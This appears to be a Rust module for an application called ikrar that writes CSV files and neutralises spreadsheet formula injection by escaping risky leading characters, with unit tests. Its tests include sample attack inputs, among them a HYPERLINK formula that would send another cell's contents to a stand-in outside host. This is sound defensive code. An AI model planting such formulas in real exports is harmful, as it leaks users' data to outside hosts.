//! The one CSV writer behind every CSV file ikrar writes (reports, activation codes, import
//! reports, the audit trail). A text cell that a spreadsheet would run as a formula — starting
//! with `=`, `+`, `-`, `@`, a tab or a carriage return (OWASP's rule for CSV injection) — gets a
//! leading `'`, so that a name like `=HYPERLINK(…)` shows as text instead of running. Numbers
//! that ikrar formats itself are written as they are.

use std::borrow::Cow;
use std::io::Write;

/// One cell of a row.
#[derive(Debug, Clone, Copy)]
pub enum Cell<'a> {
    /// Text from anywhere (people, files, browsers): neutralised if it could be a formula.
    Text(&'a str),
    /// A number ikrar formatted itself (a count, a percentage, a log index): written as is.
    Number(&'a str),
    /// A number that is a name, not a quantity (a NIP): in a spreadsheet file it is written as
    /// `="…"`, so that Excel keeps all 18 digits as text instead of rounding them to 1,99E+17.
    Id(&'a str),
}

/// `text` as a spreadsheet will show it, never as a formula.
pub fn neutralize(text: &str) -> Cow<'_, str> {
    if text == "-" {
        // A lone dash (a placeholder) cannot be a formula.
        return Cow::Borrowed(text);
    }
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// A CSV writer whose every text cell is neutralised.
pub struct SafeCsv<W: Write> {
    inner: csv::Writer<W>,
    spreadsheet: bool,
}

/// The byte order mark that tells Excel a CSV file is UTF-8.
const BOM: &[u8] = b"\xEF\xBB\xBF";

impl<W: Write> SafeCsv<W> {
    /// A plain CSV writer over `out` (comma, no BOM): files other programs read back.
    pub fn new(out: W) -> SafeCsv<W> {
        SafeCsv {
            inner: csv::Writer::from_writer(out),
            spreadsheet: false,
        }
    }

    /// A CSV for people to open in Excel set to Indonesian: a UTF-8 BOM, `;` between cells
    /// (the list separator of that locale, whose decimal mark is the comma), and [`Cell::Id`]
    /// kept as text.
    pub fn for_spreadsheet(mut out: W) -> std::io::Result<SafeCsv<W>> {
        out.write_all(BOM)?;
        Ok(SafeCsv {
            inner: csv::WriterBuilder::new().delimiter(b';').from_writer(out),
            spreadsheet: true,
        })
    }

    /// Writes a row of text cells.
    pub fn text_row<I, S>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralize(c.as_ref()).into_owned())
            .collect();
        self.inner.write_record(&cells)
    }

    /// Writes a row of text and number cells.
    pub fn row(&mut self, cells: &[Cell]) -> csv::Result<()> {
        let spreadsheet = self.spreadsheet;
        self.inner.write_record(cells.iter().map(|cell| match cell {
            Cell::Text(text) => neutralize(text).into_owned(),
            Cell::Number(number) => (*number).to_owned(),
            Cell::Id(id)
                if spreadsheet && !id.is_empty() && id.bytes().all(|b| b.is_ascii_digit()) =>
            {
                format!("=\"{id}\"")
            }
            Cell::Id(id) => neutralize(id).into_owned(),
        }))
    }

    /// Flushes what is buffered to the underlying writer.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// Flushes and returns the underlying writer.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spreadsheet_files_carry_a_bom_semicolons_and_nips_as_text() {
        let mut csv = SafeCsv::for_spreadsheet(Vec::new()).unwrap();
        csv.row(&[
            Cell::Id("199004152019032004"),
            Cell::Id("=1+1"),
            Cell::Text("Siti; Aminah"),
            Cell::Number("87,5"),
        ])
        .unwrap();
        let bytes = csv.into_inner().unwrap();
        let text = std::str::from_utf8(&bytes[3..]).unwrap();
        assert_eq!(&bytes[..3], BOM);
        // Quoted by the CSV rules; Excel reads the cell as `="199004152019032004"`: text.
        assert_eq!(
            text,
            "\"=\"\"199004152019032004\"\"\";'=1+1;\"Siti; Aminah\";87,5\n"
        );
        // A plain file has neither.
        let mut plain = SafeCsv::new(Vec::new());
        plain.row(&[Cell::Id("199004152019032004")]).unwrap();
        assert_eq!(plain.into_inner().unwrap(), b"199004152019032004\n");
    }

    #[test]
    fn formulas_become_text_and_numbers_stay_numbers() {
        let mut csv = SafeCsv::new(Vec::new());
        csv.text_row([
            "=HYPERLINK(\"http://x?\"&B2,\"x\")",
            "+1",
            "-2",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "Siti Aminah",
        ])
        .unwrap();
        let numbers = [Cell::Number("-3"), Cell::Number("12.5"), Cell::Text("-3")];
        csv.row(&[numbers, numbers, [Cell::Text(""); 3]].concat()[..7])
            .unwrap();
        let text = String::from_utf8(csv.into_inner().unwrap()).unwrap();
        assert_eq!(
            text,
            "\"'=HYPERLINK(\"\"http://x?\"\"&B2,\"\"x\"\")\",'+1,'-2,'@SUM(A1),'\tx,\"'\rx\",Siti Aminah\n\
             -3,12.5,'-3,-3,12.5,'-3,\n"
        );
    }
}
